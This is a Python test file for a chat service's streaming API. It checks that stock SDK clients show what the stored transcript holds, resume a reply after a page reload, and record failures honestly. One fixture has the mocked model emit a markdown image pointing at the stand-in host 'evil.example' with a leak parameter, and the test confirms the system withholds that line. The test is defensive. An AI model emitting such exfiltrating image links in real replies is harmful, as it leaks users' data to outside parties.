"""An unmodified client of each SDK talks to the running system: POST /chat, the 303, the stream, a bearer header."""

import asyncio
from typing import Any

import pytest

from lanekeeper.lines import WITHHELD_LINE
from lanekeeper.replies.contract import MARK
from lanekeeper.types import Json
from tests.devkit import sdk
from tests.devkit.system import System, someone

SEARCH = {"calls": [{"name": "web_search", "args": {"query": "tides"}}]}


async def converse(system: System, person: str, *texts: str, **options: Any) -> sdk.Shown:
    token = await system.token(person)
    return await asyncio.to_thread(sdk.converse, system.url, token, *texts, **options)


async def stored(system: System, person: str, shown: sdk.Shown) -> list[Json]:
    """The transcript of the conversation on the screen."""
    conversation = next(part["data"]["id"] for part in shown["data"] if part["type"] == "data-conversation")
    return await system.transcript(person, conversation)


def spoken(messages: list[Json]) -> list[tuple[str, list[Json]]]:
    return [(message["role"], message["parts"]) for message in messages]


@pytest.mark.parametrize("major", sdk.MAJORS)
async def test_a_stock_client_shows_what_the_transcript_holds(major: int, system: System) -> None:
    person = someone()
    await system.model({"text": "Let me look."} | SEARCH, {"text": "Twice a day."}, {"text": "Goodbye."}, sub=person)
    shown = await converse(system, person, "How often is high tide?", "Thanks", major=major)
    assert (shown["status"], shown["error"]) == ("ready", None)
    history = await stored(system, person, shown)
    assert [message["role"] for message in history] == ["user", "assistant"] * 2
    assert spoken(shown["messages"]) == spoken(history)
    assert [message["id"] for message in shown["messages"]] == [message["id"] for message in history]


@pytest.mark.parametrize("major", sdk.MAJORS)
async def test_b029_a_stock_page_reloaded_in_mid_turn_takes_the_turn_up(major: int, system: System) -> None:
    """B029: the reloaded page shows the running answer once, under its own id, after what its history holds."""
    person = someone()
    await system.model(
        {"text": "The first answer."},
        {"text": "The tide turns twice a day, and a little later each day.", "token_delay_ms": 150},
        sub=person,
    )
    before = await converse(system, person, "First?", major=major)
    sending = asyncio.create_task(converse(system, person, "Second?", major=major, messages=before["messages"]))
    running: list[Json] = []
    async with asyncio.timeout(30):
        while not running:
            await asyncio.sleep(0.05)
            running = await system.sql(
                "select 1 from reply_chunks c join turns t on t.id = c.turn_id"
                " where c.user_id = %s and t.state = 'running' and c.chunk ->> 'type' = 'text-delta'",
                [person],
            )
    history = await stored(system, person, before)
    assert [message["role"] for message in history] == ["user", "assistant", "user"]
    resumed = await converse(system, person, major=major, resume=True, messages=history)
    sent = await sending
    whole = await stored(system, person, before)
    assert spoken(sent["messages"]) == spoken(resumed["messages"]) == spoken(whole)
    assert len(whole) == 4
    idle = await converse(system, person, major=major, resume=True, messages=whole)
    assert spoken(idle["messages"]) == spoken(whole)
    assert idle["error"] is None


@pytest.mark.parametrize("major", sdk.MAJORS)
async def test_a_stock_client_shows_short_messages_corrections_and_fixed_lines_as_they_are_stored(
    major: int, system: System
) -> None:
    """B076, E5: nothing that was shown is ever taken back, so every client ends with what the transcript holds."""
    person = someone()
    picture = {"text": "Twice a day. ![x](https://evil.example/?leak=1) So it is.", "token_delay_ms": 5}
    await system.model(
        {"text": f"Good morning.\n{MARK}\nWhat can I do?"},
        *(picture, {"text": "And a little later each day."}),
        *(picture, picture),
        sub=person,
    )
    shown = await converse(system, person, "Hello", "How often is high tide?", "And low tide?", major=major)
    assert (shown["status"], shown["error"]) == ("ready", None)
    history = await stored(system, person, shown)
    assert spoken(shown["messages"]) == spoken(history)
    said = [[part["text"] for part in parts if part["type"] == "text"] for role, parts in spoken(history)]
    assert said[1::2] == [
        ["Good morning.", "What can I do?"],
        ["Twice a day. And a little later each day."],
        ["Twice a day. ", WITHHELD_LINE.en],
    ]


async def test_a_provider_that_fails_twice_leaves_the_honest_line(system: System) -> None:
    """B031: one end, no exception text, the status failed, and the line in the history."""
    person = someone()
    cut = {"text": "It all began a very long time ago indeed", "error": "cut"}
    await system.model(cut, cut, sub=person)
    shown = await converse(system, person, "Tell me everything")
    assert (shown["status"], shown["error"]) == ("ready", None)
    history = await stored(system, person, shown)
    assert spoken(shown["messages"]) == spoken(history)
    assert "Sorry" in history[-1]["parts"][-1]["text"]
    (turn,) = await system.sql("select state from turns where user_id = %s", [person])
    assert turn["state"] == "failed"
    ends = await system.sql(
        "select chunk ->> 'type' as type from reply_chunks where user_id = %s"
        " and chunk ->> 'type' in ('finish', 'abort', 'error')",
        [person],
    )
    assert [end["type"] for end in ends] == ["finish"]
